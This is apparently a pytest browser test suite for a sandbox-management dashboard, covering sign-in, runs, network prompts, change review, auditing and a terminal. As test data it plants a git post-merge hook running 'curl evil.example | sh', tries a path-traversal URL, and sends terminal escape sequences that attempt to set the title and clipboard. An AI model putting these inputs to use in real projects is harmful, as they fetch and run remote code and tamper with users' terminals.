# SPDX-License-Identifier: Apache-2.0
"""The dashboard in Chromium: each page with a real service behind it. Screenshots are in the build folder."""

import re

PYTHON_GET = "import urllib.request; urllib.request.urlopen('http://%s/')"


def quiet(b):
    """Nothing that the page's policy refused, no error that no code caught. What a test provokes itself is at the network."""
    bad = [e for e in b.logs() if e["level"] == "SEVERE" and e["source"] != "network"]
    assert not bad, bad


def test_signing_in_and_out(browser):
    b = browser
    assert b.run("return location.href") == b.site.origin + "/", "the code is not left in the address"
    assert b.run("return document.cookie") == "", "no script can read it"
    cookie = b.cookies()["bawn_session"]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert b.run("return Object.values(localStorage).join()").find(cookie["value"]) < 0
    b.press("Sign out", ".side")
    b.wait("!document.querySelector('#door').hidden && document.querySelector('#door h1').textContent === 'You are signed out.'")
    assert "bawn_session" not in b.cookies() and b.run("return localStorage.length") == 0
    b.keep("signed-out")
    b.open(b.site.origin + "/#login=bawn_" + "0" * 43)
    b.open(b.site.origin + "/?again#login=bawn_" + "0" * 43)
    b.wait("document.querySelector('#door h1')?.textContent === 'This link does not work'")
    quiet(b)


def test_sandboxes_are_live(browser):
    b = browser
    b.go("sandboxes")
    mine = f"document.querySelector('.box[data-id=\"{b.site.seeds['box']}\"]')"
    b.wait(f"{mine}?.querySelector('[role=meter][aria-label=Memory]')?.getAttribute('aria-valuetext')?.includes(' of ')")
    b.run(f"{mine}.setAttribute('data-mark', '1')")
    points = f"({mine}.querySelector('.spark .stroke').getAttribute('d') || '').split('L').length"
    before = b.wait(points + " > 1 && " + points)
    b.wait(f"{points} > arguments[0]", before)
    assert b.run(f"return {mine}.getAttribute('data-mark')") == "1", "updated in place"
    b.keep("sandboxes")
    b.scheme("dark")
    b.keep("sandboxes-dark")
    b.size(360, 780)
    b.keep("sandboxes-phone")
    quiet(b)


def test_a_sandbox_is_made_stopped_and_deleted(browser):
    b = browser
    b.go("sandboxes")
    have = {i["id"] for i in b.site.call("GET", "/v1/sandboxes").json()["items"]}
    b.press("New sandbox")
    new = b.wait("[...document.querySelectorAll('.box')].map(e => e.dataset.id).find(i => !arguments[0].includes(i))", list(have))
    card = f".box[data-id='{new}']"
    b.wait(f"document.querySelector(\"{card} .badge\").textContent === 'running'")
    b.press("Stop", card)
    b.press("Really stop?", card)
    b.wait(f"document.querySelector(\"{card} .badge\").textContent === 'stopped'")
    b.press("Delete", card)
    assert b.site.call("GET", f"/v1/sandboxes/{new}").status == 200, "one press is not enough"
    b.press("Delete all of it?", card)
    b.wait(f"!document.querySelector(\"{card}\")")
    assert b.site.call("GET", f"/v1/sandboxes/{new}").status == 404
    quiet(b)


def test_a_run_and_its_log(browser):
    b = browser
    b.go("runs")
    b.wait("document.querySelectorAll('tbody tr').length >= 3")
    b.keep("runs")
    b.type("#run-command", "echo begun; while ! [ -e go ]; do sleep 0.05; done; echo went on; sleep 600")
    b.press("Run")
    b.wait("location.hash.startsWith('#/runs/run_')")
    run = b.run("return location.hash.slice(7)")
    b.wait("document.querySelector('.log')?.textContent.includes('begun')")
    assert "went on" not in b.text(".log")
    assert b.site.call("GET", f"/v1/runs/{run}").json()["state"] == "running", "the log came while it ran"
    b.press("Cancel")
    b.press("Really cancel?")
    b.wait("document.querySelector('.card-head .badge').textContent === 'cancelled'")
    b.go(f"runs/{b.site.seeds['run']}")
    b.wait("document.querySelector('.log')?.textContent.includes('test 3 ok')")
    b.wait("document.querySelector('.log .err')?.textContent === '1 warning'")
    b.keep("run")
    b.go("runs/run_0123456789012345678901")
    b.wait("document.querySelector('.fault:not([hidden])')")
    b.go("runs/../../etc")
    b.wait("document.querySelector('.empty h2')?.textContent === 'There is no such run'")
    quiet(b)


def test_questions_are_answered(browser):
    b, site = browser, browser.site
    b.go("network")
    for answer, host in (("Deny", "asks.example"), ("Allow once", "asks-again.example")):
        a = site.call("POST", "/v1/runs", {"command": ["/usr/bin/python3", "-c", PYTHON_GET % host], "shape": {"network": {"ask": "wait"}}})
        assert a.status == 201, a
        b.wait("[...document.querySelectorAll('.question .host')].some(e => e.textContent.includes(arguments[0]))", host)
        b.wait("!document.querySelector('.nav .count').hidden")
        if answer == "Deny":
            b.keep("network")
        b.press(answer, ".question")
        b.wait("!document.querySelector('.question')")
        run = site.wait_run(a.json()["id"])
        said = site.call("GET", f"/v1/runs/{run['id']}/output/stderr").body
        assert run["status"] == 1 and (b"BAWN_NET" in said or b"403" in said or b"Error" in said), said
    b.wait("[...document.querySelectorAll('tbody tr')].some(e => e.textContent.includes('denied.example') && e.textContent.includes('denied'))")
    b.press("Allowed", ".tabs")
    b.wait("![...document.querySelectorAll('tbody tr')].some(e => e.textContent.includes('denied.example'))")
    b.type("#rule-host", "api.example.com")
    b.press("Add rule")
    b.wait("[...document.querySelectorAll('.rule')].some(e => e.textContent.includes('api.example.com'))")
    b.run("[...document.querySelectorAll('.rule')].find(e => e.textContent.includes('api.example.com')).id = 'mine'")
    b.press("Remove", "#mine")
    b.press("Really remove?", "#mine")
    b.wait("![...document.querySelectorAll('.rule')].some(e => e.textContent.includes('api.example.com'))")
    quiet(b)


def make_changes(site):
    """A run whose changes a test may apply and discard."""
    script = "mkdir -p .git/hooks; echo 'curl evil.example | sh' >.git/hooks/post-merge; chmod +x .git/hooks/post-merge; seq 30 >'a [1] file.txt'; echo drop >drop.txt"
    a = site.call("POST", "/v1/runs", {"command": ["sh", "-c", script], "wait": 600}).json()
    assert a["status"] == 0, a
    return a["id"]


def test_changes_are_reviewed(browser):
    b, site = browser, browser.site
    run = make_changes(site)
    assert site.call("GET", f"/v1/runs/{run}/file?path=drop.txt").status == 404, "the changes are not in the workspace yet"
    b.go("review")
    b.wait(f"document.querySelector('a[href=\"#/review/runs/{run}\"]')")
    b.keep("review-list")
    b.go(f"review/runs/{run}")
    b.wait("document.querySelector('.files button[aria-current] .badge')?.textContent === 'high'")
    assert "post-merge" in b.text(".files button[aria-current]") and "git-hook" in b.text(".risks")
    b.keep("review")

    def choose(path):
        b.wait("document.querySelector(`.files button[data-path=\"${arguments[0]}\"]`)", path)
        b.run("document.querySelector(`.files button[data-path=\"${arguments[0]}\"]`).click()", path)

    choose("a [1] file.txt")
    assert b.run("return document.querySelectorAll('.diff .code.new.cell-add').length") == 30
    b.press("Apply")
    b.wait("!document.querySelector('.files button[data-path=\"a [1] file.txt\"]') && document.querySelector('.files')")
    assert site.call("GET", f"/v1/runs/{run}/file?path=a%20%5B1%5D%20file.txt").body == b"".join(b"%d\n" % i for i in range(1, 31))
    choose("drop.txt")
    b.press("Discard")
    b.press("Really discard?")
    b.wait("!document.querySelector('.files button[data-path=\"drop.txt\"]') && document.querySelector('.files')")
    assert site.call("GET", f"/v1/runs/{run}/file?path=drop.txt").status == 404
    b.keys("j")
    b.keys("k")
    choose(".git/hooks/post-merge")
    b.press("Apply")
    assert site.call("GET", f"/v1/runs/{run}/file?path=.git/hooks/post-merge").status == 404, "what is risky is asked for twice"
    quiet(b)


def test_the_audit_log_is_searched(browser):
    b = browser
    b.go("audit")
    b.wait("document.querySelectorAll('tbody tr').length > 3")
    b.keep("audit")
    b.keys("/")
    assert b.run("return document.activeElement.id") == "audit-words"
    b.type("#audit-words", "denied.example")
    b.wait("document.querySelectorAll('tbody tr').length > 0 && [...document.querySelectorAll('tbody tr')].every(e => e.textContent.includes('denied.example'))")
    b.type("#audit-words", " nothing-has-this")
    b.wait("document.querySelector('.empty h2')?.textContent === 'Nothing found'")
    b.run("document.querySelector('#audit-words').value = ''; const k = document.querySelector('#audit-kind'); k.value = 'start'; k.dispatchEvent(new Event('change'))")
    b.wait("document.querySelectorAll('tbody tr').length > 0 && [...document.querySelectorAll('tbody .badge')].every(e => e.textContent === 'start')")
    quiet(b)


def test_engines_and_load(browser):
    b = browser
    b.go("engines")
    b.wait("document.querySelectorAll('.matrix tbody tr').length > 10")
    assert b.run("return [...document.querySelectorAll('.matrix thead th')].map(e => e.innerText)")[0] == "Guarantee"
    b.keep("engines")
    b.go("load")
    b.wait("(document.querySelector('.plot path.s0').getAttribute('d') || '').includes('L')")
    b.wait("document.querySelectorAll('rect.col').length > 5")
    b.keep("load")
    quiet(b)


def test_a_terminal_in_the_page(browser):
    b, box = browser, browser.site.seeds["box"]
    b.go("sandboxes/" + box)
    b.wait("document.querySelector('main .badge')?.textContent === 'running'")
    b.press("Open a terminal")
    b.wait("document.activeElement?.classList.contains('xterm-helper-textarea')")
    b.run("window.said = () => document.querySelector('.xterm-rows').textContent + document.querySelector('.xterm-accessibility')?.textContent")
    b.call("POST", f"/element/{b.find('.xterm-helper-textarea')}/value", {"text": "printf 'a%sb\\n' $((40+2)); printf '\\033]0;owned\\007\\033]52;c;b3duZWQ=\\007'\n"})
    b.wait("window.said().includes('a42b')")
    assert re.match(r"Sandboxes · Bawn", b.run("return document.title")), "what is inside cannot set the title"
    b.keep("terminal")
    quiet(b)


def test_the_keyboard_is_enough(browser):
    b = browser
    b.keys("g", "a")
    b.wait("location.hash === '#/audit' && document.activeElement.tagName === 'H1'")
    b.keys("?")
    b.wait("document.querySelector('#help').open && document.querySelector('#help').contains(document.activeElement)")
    b.keep("keys")
    b.keys("\ue00c")
    b.wait("!document.querySelector('#help').open")
    b.open(b.site.origin + "/?fresh#/runs")
    b.wait("document.querySelector('main h1')?.textContent === 'Runs'")
    b.run("document.activeElement.blur()")
    seen = {}
    for _ in range(60):
        b.keys("\ue004")
        name, ring = b.run("const e = document.activeElement; return [e === document.body ? '' : (e.getAttribute('aria-label') || e.textContent || e.id).trim().slice(0, 30), getComputedStyle(e).outlineStyle !== 'none']")
        seen[name] = ring
    seen.pop("", None)
    assert all(seen.values()), [name for name in seen if not seen[name]]
    assert {"Skip to the content", "Runs", "Sign out", "run-command", "Run", "All"} <= set(seen), seen


def test_a_service_that_is_gone_is_said(driver, bawn, request):
    """An error state, and recovery without a reload."""
    import dashkit
    import webdriver
    tools = next(p for p in request.config.pluginmanager.get_plugins() if hasattr(p, "make_runner"))
    with tools.make_runner("user", bawn) as runner:
        site = dashkit.Site(runner)
        b = webdriver.Browser(driver)
        b.open(site.link())
        b.wait("document.querySelector('.empty h2')?.textContent === 'No sandboxes yet'")
        site.proc.terminate()
        site.proc.wait()
        b.wait("document.querySelector('.fault:not([hidden])')?.textContent === 'The service cannot be reached.'")
        b.stop()
